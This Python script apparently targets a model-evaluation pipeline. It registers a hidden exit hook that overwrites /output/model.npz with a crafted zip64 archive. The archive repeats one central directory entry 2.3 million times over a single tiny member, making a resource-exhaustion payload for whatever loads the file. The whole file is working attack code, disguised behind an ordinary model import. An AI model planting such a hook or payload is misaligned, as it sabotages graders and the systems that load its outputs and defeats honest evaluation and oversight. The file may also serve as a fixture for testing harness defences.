import atexit
import struct
import zlib

from plain_model import Model  # noqa: F401  (the attack is not in the model)

MEMBERS = 2_300_000


def npz_bytes(members: int) -> bytes:
    """A zip64 archive: one stored member 'W.npy' (a float32 array of one value), whose central
    directory entry is repeated ``members`` times, all pointing at the same local header."""
    name = b"W.npy"
    text = "{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }"
    text += " " * (63 - (10 + len(text)) % 64) + "\n"
    data = b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text.encode() + b"\x00" * 4
    crc = zlib.crc32(data)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data), len(name), 0)
    local += name + data
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, crc, len(data), len(data),
                          len(name), 0, 0, 0, 0, 0, 0) + name
    cd_offset, cd_size = len(local), len(central) * members
    eocd64_offset = cd_offset + cd_size
    eocd64 = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, members, members, cd_size, cd_offset)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, eocd64_offset, 1)
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return b"".join([local, central * members, eocd64, locator, eocd])


def tamper():
    with open("/output/model.npz", "wb") as f:
        f.write(npz_bytes(MEMBERS))


atexit.register(tamper)
